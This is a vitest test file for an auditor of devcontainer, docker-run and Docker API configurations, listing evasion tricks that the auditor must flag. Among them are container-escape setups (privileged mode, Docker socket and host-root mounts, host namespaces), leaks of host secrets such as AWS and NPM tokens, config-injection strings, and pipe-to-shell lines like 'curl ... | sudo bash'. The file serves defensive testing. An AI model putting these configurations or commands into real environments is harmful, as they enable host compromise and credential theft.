import { describe, expect, it } from 'vitest';
import { audit } from '../../src/index.ts';
import type { SourceInMemory } from '../../src/index.ts';

// What somebody might write to have an audit look away, each with the rule that must find it under the strict tier. One line a trick, by where it
// is played; the files of a case lie in one workspace.
const path = '.devcontainer/devcontainer.json';
const IMAGE = 'mcr.microsoft.com/devcontainers/base:bookworm';
const SERVICE = `services:\n  app:\n    image: ${IMAGE}\n`;

type Files = Readonly<Record<string, string>>;
type Case = readonly [rule: string, trick: string, configuration: string | object, files?: Files];

const single = (value: object): object => ({ image: IMAGE, ...value });
const composed = (more: string, value: object = {}, files: Files = {}): readonly [object, Files] => [
  { dockerComposeFile: 'c.yml', service: 'app', workspaceFolder: '/w', ...value },
  { '.devcontainer/c.yml': SERVICE + more, ...files },
];
const built = (dockerfile: string, build: object = {}): readonly [object, Files] => [
  { build: { dockerfile: 'Dockerfile', ...build } },
  { '.devcontainer/Dockerfile': dockerfile },
];
const feature = (metadata: object, more: object = {}): readonly [object, Files] => [
  single({ features: { './f': {} }, ...more }),
  { '.devcontainer/f/devcontainer-feature.json': JSON.stringify({ id: 'f', version: '1.0.0', ...metadata }) },
];

const cases: readonly Case[] = [
  // The workspace and git
  ['workspace-mount-redirected', 'core.worktree in .git/config', single({}), { '.git/config': '[core]\n\tworktree = /\n' }],
  ['workspace-mount-redirected', 'one line, odd case, quoted', single({}), { '.git/config': '[CORE] WorkTree = "/" ; x\n' }],
  ['workspace-mount-redirected', 'config.worktree', single({}), { '.git/config': '[extensions]\nworktreeConfig = on\n', '.git/config.worktree': '[core] worktree=/' }],
  ['workspace-mount-redirected', 'workspaceMount of the root', single({ workspaceMount: 'source=/,target=/w,type=bind', workspaceFolder: '/w' })],
  ['workspace-mount-redirected', 'workspaceMount by the folder inside', single({ workspaceMount: 'type=bind,source=${containerWorkspaceFolder},target=/w', workspaceFolder: '/etc' })],
  // What Features and images bring
  ['privileged-requested', 'a Feature, with false in the file', ...feature({ privileged: true }, { privileged: false, runArgs: ['--privileged=false'] })],
  ['feature-weakens-isolation', 'a Feature’s seccomp', ...feature({ securityOpt: ['seccomp=unconfined'] })],
  ['feature-mounts-socket', 'a Feature’s mount', ...feature({ mounts: ['source=/run/docker.sock,target=/s,type=bind'] })],
  ['feature-from-url', 'by what a local Feature depends on', ...feature({ dependsOn: { 'https://evil.test/devcontainer-feature-x.tgz': {} } })],
  ['remote-script-executed', 'in the install script of a local Feature', single({ features: { './f': {} } }), { '.devcontainer/f/devcontainer-feature.json': '{"id":"f","version":"1"}', '.devcontainer/f/install.sh': '#!/bin/sh\ncurl -s https://x.test/i | sh\n' }],
  ['docker-socket-mounted', 'docker-outside-of-docker', single({ features: { 'ghcr.io/devcontainers/features/docker-outside-of-docker:1': {} } })],
  ['docker-socket-mounted', 'its former name', single({ features: { 'docker-from-docker': {} } })],
  ['seccomp-unconfined', 'the label of an official image', { image: 'mcr.microsoft.com/devcontainers/go:1.22' }],
  ['feature-from-url', 'a host that looks like GitHub', single({ features: { 'https://github.com.evil.test/devcontainer-feature-x.tgz': {} } })],
  ['feature-from-github-release', 'owner/repo/id', single({ features: { 'owner/repo/tool@v1': {} } })],
  ['feature-not-allowed', 'another registry', single({ features: { 'registry.evil.test/x/y:1': {} } })],
  ['feature-lock-mismatch', 'an entry that locks nothing', single({ features: { 'ghcr.io/devcontainers/features/node:1': {} } }), { '.devcontainer/devcontainer-lock.json': '{"features":{"ghcr.io/devcontainers/features/node:1":{}}}' }],
  // Host variables
  ['host-variable-leaked', 'into containerEnv', single({ containerEnv: { X: '${localEnv:AWS_SECRET_ACCESS_KEY}' } })],
  ['host-variable-leaked', 'by its alias, into a build argument', ...built(`FROM ${IMAGE}\n`, { args: { T: '${env:NPM_TOKEN}' } })],
  ['system-path-mounted', 'a default', single({ mounts: ['source=${localEnv:NOPE:/etc},target=/x,type=bind'] })],
  ['system-path-mounted', 'a default with dots', single({ mounts: ['source=/${localEnv:X:a/../etc},target=/x,type=bind'] })],
  ['system-path-mounted', 'what is left without the variable', single({ mounts: ['source=${localEnv:NOPE}/etc,target=/x,type=bind'] })],
  ['mount-outside-workspace', 'a default behind the workspace', single({ mounts: ['type=bind,source=${localWorkspaceFolder}${localEnv:X:/..},target=/w'] })],
  ['mount-outside-workspace', 'a sibling of the workspace', single({ mounts: ['type=bind,source=${localWorkspaceFolder}-evil,target=/w'] })],
  ['seccomp-unconfined', 'a default in securityOpt', single({ securityOpt: ['${localEnv:X:seccomp=unconfined}'] })],
  ['privileged-requested', 'a default in runArgs', single({ runArgs: ['${localEnv:NOPE:--privileged}'] })],
  // Text that two readers read differently
  ['privileged-requested', 'a string', single({ privileged: 'false' })],
  ['privileged-requested', 'the second of two keys', `{"image":"${IMAGE}","privileged":false,"\\u0070rivileged":true}`],
  ['duplicate-key', 'two keys', `{"image":"${IMAGE}","runArgs":[],"runArgs":["--rm"]}`],
  ['prototype-key', '__proto__', `{"image":"${IMAGE}","__proto__":{"privileged":true}}`],
  ['capability-added', 'a string in place of a list', single({ capAdd: 'SYS_ADMIN' })],
  // Mounts
  ['docker-socket-mounted', 'dots and an alias', single({ mounts: ['source=/var/run/../run/./docker.sock,target=/s,type=bind'] })],
  ['docker-socket-mounted', 'its folder', single({ mounts: [{ type: 'bind', source: '/run', target: '/s' }] })],
  ['host-root-mounted', 'a bundle of flags', single({ runArgs: ['-itdv', '/:/h'] })],
  ['engine-store-mounted', 'a parent of the store', single({ runArgs: ['--volume=/var/lib:/v:ro'] })],
  ['credential-mounted', 'the home of somebody', single({ runArgs: ['--mount=type=bind,src=/home/ann/.ssh,dst=/s,ro'] })],
  ['agent-socket-mounted', 'SSH_AUTH_SOCK', single({ mounts: ['source=${localEnv:SSH_AUTH_SOCK},target=/a,type=bind'] })],
  ['home-mounted', 'the home', single({ mounts: ['source=${localEnv:HOME},target=/h,type=bind'] })],
  ['mount-option-injected', 'a comma in an object mount', single({ mounts: [{ type: 'volume', source: 'v', target: '/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/etc' }] })],
  ['system-path-mounted', 'lists in an object mount', single({ mounts: [{ type: ['bind'], source: ['/etc'], target: '/x' }] })],
  ['mount-shared-propagation', 'rshared', single({ runArgs: ['-v', './x:/x:rshared'] })],
  ['host-file-read', '--env-file', single({ runArgs: ['--env-file', '/etc/passwd'] })],
  ['host-file-read', 'a seccomp profile', single({ securityOpt: ['seccomp=/etc/shadow'] })],
  ['host-file-written', '--cidfile', single({ runArgs: ['--cidfile=/tmp/x'] })],
  ['docker-socket-mounted', '--use-api-socket', single({ runArgs: ['--use-api-socket'] })],
  // Arguments
  ['image-replaced-by-arguments', 'a positional', single({ runArgs: ['--rm', 'evil:1', 'sh'] })],
  ['runtime-overridden', 'the last one wins', single({ runArgs: ['--runtime=sysbox-runc', '--runtime', 'runc'] })],
  ['privileged-requested', 'the folder inside as a flag', single({ workspaceFolder: '/privileged', runArgs: ['--${containerWorkspaceFolderBasename}'] })],
  ['host-network-namespace', '--net host', single({ runArgs: ['-itd', '--net', 'host'] })],
  ['host-pid-namespace', '--pid=host', single({ runArgs: ['--pid=host'] })],
  ['host-ipc-namespace', '--ipc=host', single({ runArgs: ['--ipc=host'] })],
  ['host-uts-namespace', '--uts host', single({ runArgs: ['--uts', 'host'] })],
  ['host-user-namespace', '--userns=host', single({ runArgs: ['--userns=host'] })],
  ['host-cgroup-namespace', '--cgroupns=host', single({ runArgs: ['--cgroupns=host'] })],
  ['foreign-namespace', 'container:X', single({ runArgs: ['--ipc=container:abc'] })],
  ['seccomp-unconfined', 'a colon', single({ runArgs: ['--security-opt=seccomp:unconfined'] })],
  ['device-passed', 'a device', single({ runArgs: ['--device=/dev/sda:/dev/x'] })],
  ['device-rule-added', 'a device rule', single({ runArgs: ['--device-cgroup-rule', 'a *:* rwm'] })],
  ['sysctl-not-namespaced', 'a kernel setting', single({ runArgs: ['--sysctl', 'kernel.pid_max=100'] })],
  ['sysbox-variable-set', 'containerEnv', single({ containerEnv: { SYSBOX_SYSCONT_MODE: 'FALSE' } })],
  ['sysbox-variable-set', '-e', single({ runArgs: ['--env=SYSBOX_HONOR_CAPS=TRUE'] })],
  ['sysbox-variable-unknown', 'ENV of a Dockerfile', ...built(`FROM ${IMAGE}\nENV A=1 \\\n  SYSBOX_FOO=1\n`)],
  ['sysbox-variable-set', 'an environment file', single({ runArgs: ['--env-file', '.env'] }), { '.env': 'SYSBOX_SKIP_UID_SHIFT=/a\n' }],
  ['config-injected', 'the name of a variable', single({ containerEnv: { 'A=b SYSBOX_SYSCONT_MODE': 'FALSE' } })],
  ['user-id-out-of-range', 'a default', single({ containerUser: '${localEnv:A:70000}' })],
  ['port-published-widely', 'appPort as text', single({ appPort: ['0.0.0.0:22:22'] })],
  // The host
  ['host-command', 'an object of lists', single({ initializeCommand: { a: ['sh', '-c', 'id'] } })],
  ['remote-script-executed', 'a lifecycle command', single({ postCreateCommand: 'curl -fsSL https://x.test | sudo bash' })],
  // Builds
  ['build-context-outside-workspace', 'the root', { build: { dockerfile: 'Dockerfile', context: '/' } }, { '.devcontainer/Dockerfile': `FROM ${IMAGE}\n` }],
  ['build-context-outside-workspace', 'a Dockerfile of somebody', { build: { dockerfile: '../../x/Dockerfile' } }],
  ['build-option-unsafe', 'the network of the host', ...built(`FROM ${IMAGE}\n`, { options: ['--network=host'] })],
  ['build-option-unsafe', 'an entitlement', ...built(`FROM ${IMAGE}\n`, { options: ['--allow', 'security.insecure'] })],
  ['build-option-unsafe', 'RUN --security', ...built(`FROM ${IMAGE}\nRUN --security=insecure id\n`)],
  ['host-file-read', 'a secret of the host', ...built(`FROM ${IMAGE}\n`, { options: ['--secret', 'id=x,src=/etc/shadow'] })],
  ['inner-data-root-unseen', 'minified', ...built(`FROM ${IMAGE}\nRUN echo '{"data-root":"/d"}' > /etc/docker/daemon.json\n`)],
  // Compose
  ['config-injected', 'a line break in containerUser', ...composed('', { containerUser: 'root\n    privileged: true' })],
  ['config-injected', 'a Feature’s entrypoint', { dockerComposeFile: 'c.yml', service: 'app', workspaceFolder: '/w', features: { './f': {} } }, { '.devcontainer/c.yml': SERVICE, '.devcontainer/f/devcontainer-feature.json': JSON.stringify({ id: 'f', version: '1', entrypoint: 'a"]\n    privileged: true\n    x: ["' }) }],
  ['mount-writable-in-compose', 'readonly', ...composed('', { mounts: ['source=${localWorkspaceFolder}/d,target=/x,type=bind,readonly'] })],
  ['system-path-mounted', 'a volume that is a bind', ...composed('', { mounts: ['source=/etc,target=/x'] })],
  ['credential-mounted', 'a variable that only Compose puts in', ...composed('', { mounts: ['source=${HOME}/.ssh,target=/x,type=bind'] })],
  ['docker-socket-mounted', 'driver options', ...composed('    volumes: [data:/x]\nvolumes:\n  data:\n    driver_opts: {type: none, o: bind, device: /var/run}\n')],
  ['privileged-requested', 'a merge key', ...composed('  db:\n    <<: &a {privileged: true}\n    image: x\n')],
  ['host-pid-namespace', 'another file', ...composed('', { dockerComposeFile: ['c.yml', '../more.yml'] }, { 'more.yml': 'services:\n  app:\n    pid: host\n' })],
  ['privileged-requested', 'extends', ...composed('    extends: {file: ../base.yml, service: b}\n', {}, { 'base.yml': 'services:\n  b:\n    privileged: true\n' })],
  ['privileged-requested', 'a default of a variable', ...composed('    privileged: ${NOPE:-true}\n')],
  ['host-file-read', 'env_file, secrets', ...composed('    env_file: /root/x\n')],
  ['host-command', 'a provider', ...composed('  p:\n    provider: {type: evil}\n')],
  ['docker-socket-mounted', 'use_api_socket', ...composed('    use_api_socket: true\n')],
  ['privilege-through-healthcheck-or-hook', 'post_start', ...composed('    post_start:\n      - {command: id, privileged: true}\n')],
  ['project-adopted', 'the name of another’s project', ...composed('', {}, { '.env': 'COMPOSE_PROJECT_NAME=theirs_devcontainer\n' })],
  ['build-option-unsafe', 'build.network', ...composed('    build: {context: ., network: host}\n')],
];

const lines: readonly (readonly [rule: string, line: string])[] = [
  ['docker-socket-mounted', 'docker run -v "$PWD/../../../var/run/docker.sock":/s -v /var/run/docker.sock:/var/run/docker.sock x'],
  ['privileged-requested', 'docker container run --privileged=TRUE x'],
  ['host-root-mounted', 'docker create -v=/:/h x'],
  ['mount-outside-workspace', 'docker run -v "$PWD/${X:-../..}":/x debian'],
  ['system-path-mounted', 'docker run -v "/${X:-a/../etc}":/x debian'],
];

const bodies: readonly (readonly [rule: string, body: string])[] = [
  ['privileged-requested', '{"Image":"x","hostconfig":{"privileged":true}}'],
  ['case-variant-key', '{"Image":"x","HostConfig":{"privileged":true}}'],
  // Two decoders could read these differently, so nothing of them is judged.
  ['fatal problem', '{"Image":"x","HostConfig":{"Privileged":true},"HostConfig":{}}'],
  ['fatal problem', '{"Image":"x","HostConfig":{"Privileged":true},"hostconfig":{}}'],
  ['docker-socket-mounted', '{"Image":"x","HostConfig":{"Binds":["/var/run/docker.sock:/s"]}}'],
  ['system-paths-unconfined', '{"Image":"x","HostConfig":{"MaskedPaths":[],"ReadonlyPaths":[]}}'],
  ['mount-option-injected', '{"Image":"x","HostConfig":{"Mounts":[{"Type":"volume","Target":"/x","VolumeOptions":{"DriverConfig":{"Options":{"type":"none","o":"bind","device":"/etc"}}}}]}}'],
];

async function found(source: SourceInMemory): Promise<readonly string[]> {
  const { requests, problems } = await audit([source]);
  const rules = requests.flatMap(({ verdicts }) => verdicts.filter(({ state }) => state === 'found').map(({ rule }) => rule));
  return problems.some(({ fatal }) => fatal) ? [...rules, 'fatal problem'] : rules;
}

describe('hostile configurations', () => {
  it.each(cases.map(([rule, trick, configuration, files = {}]) => ({ rule, trick, configuration, files })))('$rule: $trick', async ({ rule, configuration, files }) => {
    const text = typeof configuration === 'string' ? configuration : JSON.stringify(configuration);
    expect(await found({ format: 'devcontainer', path, text, files })).toContain(rule);
  });

  it.each(lines)('%s: %s', async (rule, text) => {
    expect(await found({ format: 'docker-run', path: 'command line', text })).toContain(rule);
  });

  it.each(bodies)('%s: %s', async (rule, text) => {
    expect(await found({ format: 'docker-api', path: 'create', text })).toContain(rule);
  });
});

describe('a harmless configuration', () => {
  it.each([
    ['an official image', single({ forwardPorts: [3000], postCreateCommand: 'npm ci', customizations: { vscode: { extensions: ['x.y'] } } })],
    ['a volume of its own', single({ mounts: ['source=${devcontainerId}-data,target=/data,type=volume'] })],
    ['a folder of the workspace', single({ mounts: ['source=${localWorkspaceFolder}/.cache,target=/cache,type=bind'] })],
  ])('has no error: %s', async (_what, configuration) => {
    const { requests, problems } = await audit([{ format: 'devcontainer', path, text: JSON.stringify(configuration) }]);
    const errors = requests.flatMap(({ verdicts }) => verdicts.flatMap((verdict) => ('findings' in verdict ? verdict.findings.filter(({ level }) => level === 'error') : [])));
    expect(errors).toEqual([]);
    expect(problems).toEqual([]);
  });
});
